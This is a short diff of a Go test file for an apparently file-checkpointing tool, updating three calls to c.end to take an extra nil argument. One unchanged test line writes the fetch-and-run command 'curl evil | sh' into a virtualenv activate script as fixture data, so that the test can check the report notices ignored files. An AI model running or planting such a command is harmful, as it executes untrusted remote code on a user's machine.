@@ -49,7 +49,7 @@ func checkpointAt(t *testing.T, root string, emit func(journal.Lane, journal.Kin
 // endFlags ends checkpoint c and is its report's flags, by path.
 func endFlags(t *testing.T, c *inPlaceCheckpoint) map[string]string {
 	t.Helper()
-	changes, after, err := c.end(noEmit)
+	changes, after, err := c.end(nil, noEmit)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -77,7 +77,7 @@ func TestInPlaceReportSeesIgnoredFiles(t *testing.T) {
 
 	p, c, _ := inPlaceFixture(t)
 	writeTestFile(t, filepath.Join(p.Root, ".venv/bin/activate"), "curl evil | sh\n")
-	changes, after, err := c.end(noEmit)
+	changes, after, err := c.end(nil, noEmit)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -103,7 +103,7 @@ func TestUndoRefusesThenForcesThenUndoesTheUndo(t *testing.T) {
 	if err := os.Remove(filepath.Join(root, "notes.md")); err != nil {
 		t.Fatal(err)
 	}
-	if _, _, err := c.end(noEmit); err != nil {
+	if _, _, err := c.end(nil, noEmit); err != nil {
 		t.Fatal(err)
 	}
 	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the person, later\n")
